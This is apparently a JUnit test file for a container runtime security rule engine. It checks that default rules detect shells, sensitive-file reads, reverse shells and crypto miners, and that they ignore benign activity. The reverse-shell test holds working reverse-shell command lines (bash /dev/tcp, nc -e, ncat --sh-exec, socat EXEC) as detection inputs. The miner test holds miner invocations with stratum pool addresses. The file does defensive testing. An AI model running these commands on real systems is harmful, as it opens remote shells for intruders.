package dev.containersec.runtime;

import static org.assertj.core.api.Assertions.assertThat;

import dev.containersec.api.Alert;
import dev.containersec.api.FileOpenEvent;
import dev.containersec.api.ProcessContext;
import java.util.List;
import org.junit.jupiter.api.Test;

class DefaultRulesTest {

    private final RuleSet rules = RuleEngine.builder().ruleMatching(RuleMatching.ALL).build()
            .load(List.of(DefaultRules.source()));

    @Test
    void defaultRules_loadWithoutErrorsOrWarnings() {
        assertThat(rules.ruleNames()).containsExactly("Terminal shell in container", "Read sensitive file untrusted",
                "Write below etc", "Setuid to root", "Unexpected outbound connection", "Reverse shell command",
                "Shell opened a network connection", "Crypto miner launched", "Connection to a mining pool port");
        assertThat(rules.report().problems()).isEmpty();
    }

    @Test
    void eachRule_firesOnItsEvent_andNotOnBenignOnes() {
        ProcessContext shell = Events.containerShell().build();
        ProcessContext cat = Events.hostProcess("cat");
        assertThat(names(Events.exec(shell))).containsExactly("Terminal shell in container");
        assertThat(names(Events.exec(Events.hostProcess("bash")))).isEmpty();
        assertThat(names(Events.open(cat, "/etc/shadow", FileOpenEvent.O_RDONLY)))
                .containsExactly("Read sensitive file untrusted");
        assertThat(names(Events.open(Events.hostProcess("sshd"), "/etc/shadow", 0))).isEmpty();
        assertThat(names(Events.open(cat, "/etc/hosts", FileOpenEvent.O_WRONLY | FileOpenEvent.O_TRUNC)))
                .containsExactly("Write below etc");
        assertThat(names(Events.open(Events.hostProcess("dpkg"), "/etc/hosts", FileOpenEvent.O_WRONLY))).isEmpty();
        assertThat(names(Events.setuid(shell, 0))).containsExactly("Setuid to root");
        assertThat(names(Events.setuid(cat, 0))).isEmpty();
        // a shell that connects out on 4444 is also a reverse-shell shape and a pool port
        assertThat(names(Events.connect(shell, "203.0.113.9", 4444))).containsExactlyInAnyOrder(
                "Unexpected outbound connection", "Shell opened a network connection", "Connection to a mining pool port");
        assertThat(names(Events.connect(Events.containerShell().comm("curl").build(), "203.0.113.9", 443)))
                .containsExactly("Unexpected outbound connection");
        assertThat(names(Events.connect(shell, "10.0.0.9", 4444))).containsExactly("Shell opened a network connection");
        assertThat(names(Events.connect(Events.containerShell().comm("curl").build(), "10.0.0.9", 4444))).isEmpty();
    }

    @Test
    void reverseShells_areRecognised_byCommandLineAndByAShellThatConnects() {
        ProcessContext.Builder host = ProcessContext.builder().pid(77).ppid(70).uid(33).euid(33)
                .ancestry(List.of(new dev.containersec.api.ProcessAncestor(70, "php-fpm", "/usr/sbin/php-fpm")));
        assertThat(names(Events.exec(host.comm("bash").exe("/usr/bin/bash")
                .args("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").build())))
                .containsExactly("Reverse shell command");
        assertThat(names(Events.exec(host.comm("nc").exe("/usr/bin/nc")
                .args("nc", "-e", "/bin/sh", "203.0.113.5", "4444").build()))).containsExactly("Reverse shell command");
        assertThat(names(Events.exec(host.comm("ncat").exe("/usr/bin/ncat")
                .args("ncat", "203.0.113.5", "4444", "--sh-exec", "sh").build()))).containsExactly("Reverse shell command");
        assertThat(names(Events.exec(host.comm("socat").exe("/usr/bin/socat")
                .args("socat", "TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr").build())))
                .containsExactly("Reverse shell command");
        assertThat(names(Events.exec(host.comm("nc").exe("/usr/bin/nc").args("nc", "-z", "db", "5432").build())))
                .as("netcat as a port probe").isEmpty();
        assertThat(names(Events.exec(host.comm("socat").exe("/usr/bin/socat")
                .args("socat", "TCP-LISTEN:8080", "TCP:backend:80").build()))).as("socat as a relay").isEmpty();
        assertThat(names(Events.connect(host.comm("bash").build(), "127.0.0.1", 9001)))
                .containsExactly("Shell opened a network connection");
        assertThat(names(Events.connect(host.comm("curl").build(), "127.0.0.1", 9001))).isEmpty();
    }

    @Test
    void miners_areRecognised_byNameStratumUrlPoolDomainAndPoolPort() {
        ProcessContext.Builder p = ProcessContext.builder().pid(88).ppid(1);
        assertThat(names(Events.exec(p.comm("xmrig").exe("/tmp/xmrig").args("/tmp/xmrig").build())))
                .containsExactly("Crypto miner launched");
        assertThat(names(Events.exec(p.comm("kworkerds").exe("/tmp/.x/kworkerds")
                .args("kworkerds", "-o", "stratum+tcp://198.51.100.7:3333", "-u", "wallet").build())))
                .containsExactly("Crypto miner launched");
        assertThat(names(Events.exec(p.comm("sysupdate").exe("/var/tmp/sysupdate")
                .args("sysupdate", "-o", "pool.supportxmr.com:443", "--donate-level=1").build())))
                .containsExactly("Crypto miner launched");
        assertThat(names(Events.exec(p.comm("python3").args("python3", "app.py").build()))).isEmpty();
        ProcessContext hostProc = Events.hostProcess("kworkerds");
        assertThat(names(Events.connect(hostProc, "198.51.100.7", 3333))).containsExactly("Connection to a mining pool port");
        assertThat(names(Events.connect(hostProc, "198.51.100.7", 443))).isEmpty();
        assertThat(names(Events.connect(hostProc, "10.0.0.7", 3333))).as("private address").isEmpty();
    }

    private List<String> names(dev.containersec.api.RuntimeEvent event) {
        return rules.evaluate(event).stream().map(Alert::rule).toList();
    }
}
